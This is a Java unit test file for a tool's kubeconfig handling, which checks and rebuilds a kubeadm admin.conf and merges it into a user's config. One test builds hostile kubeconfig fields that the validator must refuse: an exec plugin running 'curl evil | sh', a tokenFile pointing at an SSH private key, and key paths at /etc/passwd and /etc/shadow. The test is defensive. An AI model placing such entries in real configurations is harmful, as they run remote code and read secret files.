package dev.gpuctl.kube;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.gpuctl.text.Fixtures;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.yaml.snakeyaml.Yaml;

/**
 * kubeadm's admin.conf checked and rebuilt (only the fields gpuctl takes; a hostile one refused naming the field), and
 * merged into a user's kubeconfig: the user's other entries and settings stay.
 */
class KubeconfigTest {
    static final String SERVER = "https://10.213.1.10:6443";
    static final String CA = b64(Fixtures.read("kubeconfig/ca.crt"));
    static final String CERT = b64(Fixtures.read("kubeconfig/admin-ca.crt"));
    static final String KEY = b64(Fixtures.read("kubeconfig/admin-ca.key"));
    static final String CA_HASH = Kubeadm.caCertHash(Fixtures.read("kubeconfig/ca.crt"));

    /** kubeadm's admin.conf, as kubeadm init writes it, with a cluster section and a user section to add to. */
    static String adminConf(String clusterExtra, String userExtra) {
        return """
            apiVersion: v1
            clusters:
            - cluster:
                certificate-authority-data: %s
                server: %s
            %s  name: kubernetes
            contexts:
            - context:
                cluster: kubernetes
                user: kubernetes-admin
              name: kubernetes-admin@kubernetes
            current-context: kubernetes-admin@kubernetes
            kind: Config
            preferences: {}
            users:
            - name: kubernetes-admin
              user:
                client-certificate-data: %s
                client-key-data: %s
            %s""".formatted(CA, SERVER, clusterExtra, CERT, KEY, userExtra);
    }

    static final String ADMIN = adminConf("", "");
    static final Kubeconfig.Admin CHECKED = Kubeconfig.admin(ADMIN, SERVER, CA_HASH);

    static String b64(String s) { return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.US_ASCII)); }

    static final String USERS = """
        apiVersion: v1
        kind: Config
        clusters:
        - name: prod
          cluster: { server: "https://prod.example:6443" }
        - name: gpu-lab
          cluster: { server: "https://old.example:6443" }
        users:
        - name: me
          user: { token: abc }
        contexts:
        - name: prod
          context: { cluster: prod, user: me, namespace: web }
        current-context: prod
        preferences: { colors: true }
        """;

    @SuppressWarnings("unchecked")
    static Map<String, Object> yaml(String s) { return (Map<String, Object>) new Yaml().load(s); }

    @SuppressWarnings("unchecked")
    static Map<String, Object> entry(Map<String, Object> doc, String list, String name) {
        return ((List<Map<String, Object>>) doc.get(list)).stream().filter(e -> name.equals(e.get("name"))).findFirst().orElseThrow();
    }

    @Test void theUsersOtherContextsStayAndAnEntryOfTheSameNameIsReplaced() {
        Kubeconfig.Merged m = Kubeconfig.merge(USERS, CHECKED, "gpu-lab", "gpu-lab");
        Map<String, Object> doc = yaml(m.text());
        assertEquals(List.of("prod", "gpu-lab"), Kubeconfig.contexts(m.text()));
        assertEquals(Map.of("cluster", "prod", "user", "me", "namespace", "web"), entry(doc, "contexts", "prod").get("context"));
        assertEquals(Map.of("token", "abc"), entry(doc, "users", "me").get("user"));
        assertEquals(2, ((List<?>) doc.get("clusters")).size(), "the old gpu-lab cluster entry is replaced, not doubled");
        assertEquals(Map.of("certificate-authority-data", CA, "server", SERVER), entry(doc, "clusters", "gpu-lab").get("cluster"));
        assertEquals(Map.of("client-certificate-data", CERT, "client-key-data", KEY), entry(doc, "users", "gpu-lab-admin").get("user"));
        assertEquals(Map.of("cluster", "gpu-lab", "user", "gpu-lab-admin"), entry(doc, "contexts", "gpu-lab").get("context"));
        assertEquals("prod", doc.get("current-context"), "the user's current context is kept");
        assertFalse(m.setCurrentContext());
        assertEquals(Map.of("colors", true), doc.get("preferences"));
        assertEquals(m.text(), Kubeconfig.merge(m.text(), CHECKED, "gpu-lab", "gpu-lab").text(), "merging again changes nothing");
    }

    @Test void intoNoFileItMakesAKubeconfigWhoseCurrentContextIsTheCluster() {
        Kubeconfig.Merged m = Kubeconfig.merge("", CHECKED, "gpu-lab", "lab");
        Map<String, Object> doc = yaml(m.text());
        assertEquals("Config", doc.get("kind"));
        assertEquals("lab", doc.get("current-context"));
        assertTrue(m.setCurrentContext());
        assertEquals(List.of("lab"), Kubeconfig.contexts(m.text()));
    }

    @Test void aFileThatIsNoKubeconfigIsRefusedWithWhatIsWrong() {
        assertTrue(assertThrows(Kubeconfig.Invalid.class, () -> Kubeconfig.merge("a: [b", CHECKED, "gpu-lab", "gpu-lab"))
            .getMessage().startsWith("the kubeconfig file is not valid YAML"));
        assertEquals("the kubeconfig file is not a kubeconfig (kind: Pod, expected Config)",
            assertThrows(Kubeconfig.Invalid.class, () -> Kubeconfig.merge("kind: Pod\n", CHECKED, "gpu-lab", "gpu-lab")).getMessage());
        assertEquals("the kubeconfig file: 'contexts' is not a list",
            assertThrows(Kubeconfig.Invalid.class, () -> Kubeconfig.merge("contexts: 3\n", CHECKED, "gpu-lab", "gpu-lab")).getMessage());
        assertEquals("the master's admin.conf does not hold exactly one entry under 'users' with a 'user'",
            assertThrows(Kubeconfig.Invalid.class, () -> Kubeconfig.admin("kind: Config\nclusters: [{name: a, cluster: {}}]\n", null, null)).getMessage());
    }

    /** Every field a hostile master could add, each alone: refused, and the message names it. */
    @Test void aHostileAdminConfIsRefusedNamingTheField() {
        Map<String, String> userFields = Map.of(
            "exec", "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, 'curl evil | sh']\n",
            "auth-provider", "    auth-provider:\n      name: oidc\n      config: {cmd-path: /bin/sh}\n",
            "tokenFile", "    tokenFile: /home/admin/.ssh/id_ed25519\n",
            "client-certificate", "    client-certificate: /etc/passwd\n",
            "client-key", "    client-key: /etc/shadow\n",
            "token", "    token: abc\n");
        for (var e : userFields.entrySet()) {
            String msg = assertThrows(Kubeconfig.Refused.class, () -> Kubeconfig.admin(adminConf("", e.getValue()), SERVER, CA_HASH),
                e.getKey()).getMessage();
            assertTrue(msg.contains("users[0].user." + e.getKey() + " is refused"), msg);
        }
        Map<String, String> clusterFields = Map.of(
            "insecure-skip-tls-verify", "    insecure-skip-tls-verify: true\n",
            "certificate-authority", "    certificate-authority: /tmp/ca.crt\n",
            "proxy-url", "    proxy-url: http://10.0.0.9:3128\n",
            "tls-server-name", "    tls-server-name: evil\n");
        for (var e : clusterFields.entrySet()) {
            String msg = assertThrows(Kubeconfig.Refused.class, () -> Kubeconfig.admin(adminConf(e.getValue(), ""), SERVER, CA_HASH),
                e.getKey()).getMessage();
            assertTrue(msg.contains("clusters[0].cluster." + e.getKey() + " is refused"), msg);
        }
        assertTrue(assertThrows(Kubeconfig.Refused.class, () -> Kubeconfig.admin(adminConf("", userFields.get("exec")), SERVER, CA_HASH))
            .getMessage().contains("kubectl would run its command on this machine"));
    }

    @Test void aServerThatIsNotTheClustersHttpsEndpointIsRefused() {
        String http = ADMIN.replace(SERVER, "http://10.213.1.10:6443");
        assertTrue(assertThrows(Kubeconfig.Refused.class, () -> Kubeconfig.admin(http, null, CA_HASH)).getMessage()
            .contains("clusters[0].cluster.server 'http://10.213.1.10:6443' is not an https://HOST:PORT URL"));
        String elsewhere = ADMIN.replace(SERVER, "https://10.66.6.6:6443");
        assertTrue(assertThrows(Kubeconfig.Refused.class, () -> Kubeconfig.admin(elsewhere, SERVER, CA_HASH)).getMessage()
            .contains("is not the cluster's endpoint " + SERVER));
    }

    @Test void anotherCaIsRefusedAndAClientCertificateOfAnotherCaToo() {
        String otherCa = b64(Fixtures.read("kubeconfig/other-ca.crt"));
        String other = ADMIN.replace(CA, otherCa).replace(CERT, b64(Fixtures.read("kubeconfig/admin-other-ca.crt")))
            .replace(KEY, b64(Fixtures.read("kubeconfig/admin-other-ca.key")));
        String msg = assertThrows(Kubeconfig.Refused.class, () -> Kubeconfig.admin(other, SERVER, CA_HASH)).getMessage();
        assertTrue(msg.startsWith("the master's CA is not the one this cluster was bootstrapped with"), msg);
        assertTrue(msg.contains(CA_HASH), msg);
        String mixed = ADMIN.replace(CERT, b64(Fixtures.read("kubeconfig/admin-other-ca.crt")));
        assertTrue(assertThrows(Kubeconfig.Refused.class, () -> Kubeconfig.admin(mixed, SERVER, CA_HASH)).getMessage()
            .contains("client-certificate-data is not signed by the cluster's CA"));
    }

    @Test void theRebuiltKubeconfigHoldsOnlyTheAllowedFields() {
        Map<String, Object> doc = yaml(Kubeconfig.render(CHECKED, "gpu-lab"));
        assertEquals(Set.of("apiVersion", "kind", "clusters", "users", "contexts", "current-context"), doc.keySet());
        assertEquals(Map.of("name", "gpu-lab", "cluster", Map.of("certificate-authority-data", CA, "server", SERVER)),
            ((List<?>) doc.get("clusters")).get(0));
        assertEquals(Map.of("name", "gpu-lab-admin", "user", Map.of("client-certificate-data", CERT, "client-key-data", KEY)),
            ((List<?>) doc.get("users")).get(0));
        assertEquals(1, ((List<?>) doc.get("users")).size());
        assertEquals(Map.of("name", "gpu-lab", "context", Map.of("cluster", "gpu-lab", "user", "gpu-lab-admin")),
            ((List<?>) doc.get("contexts")).get(0));
        assertEquals("gpu-lab", doc.get("current-context"));
        assertEquals(CA_HASH, CHECKED.caCertHash());
        assertFalse(CHECKED.toString().contains(KEY), "the key is never shown");
    }

    @Test void refreshReplacesOnlyThisClustersEntries() {
        String merged = Kubeconfig.merge(USERS, CHECKED, "gpu-lab", "lab").text();
        Kubeconfig.Admin renewed = new Kubeconfig.Admin(SERVER, CA, CA_HASH, b64("new cert"), b64("new key"));
        Map<String, Object> doc = yaml(Kubeconfig.refresh(merged, renewed, "gpu-lab").orElseThrow());
        assertEquals(Map.of("client-certificate-data", b64("new cert"), "client-key-data", b64("new key")), entry(doc, "users", "gpu-lab-admin").get("user"));
        assertEquals(Map.of("token", "abc"), entry(doc, "users", "me").get("user"));
        assertEquals("prod", doc.get("current-context"));
        assertEquals(Optional.empty(), Kubeconfig.refresh(USERS.replace("gpu-lab", "other"), renewed, "gpu-lab"), "nothing of this cluster: nothing to refresh");
    }

    @Test void theProbesAnswerMatchesTheRebuiltCopyAndNotAnother() throws Exception {
        String keyHash = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(KEY.getBytes(StandardCharsets.US_ASCII)));
        String answer = "server " + SERVER + "\ncertificate-authority-data " + CA + "\nclient-certificate-data " + CERT
            + "\nclient-key-sha256 " + keyHash + "\n";
        String laptop = Kubeconfig.render(CHECKED, "gpu-lab");
        assertTrue(Kubeconfig.sameCredentials(laptop, answer));
        assertFalse(Kubeconfig.sameCredentials(laptop, answer.replace(keyHash, "0".repeat(64))), "another key");
        assertFalse(Kubeconfig.sameCredentials(laptop, answer.replace(CERT, b64("renewed"))), "a renewed certificate");
        assertFalse(Kubeconfig.sameCredentials("", answer), "no copy");
    }
}
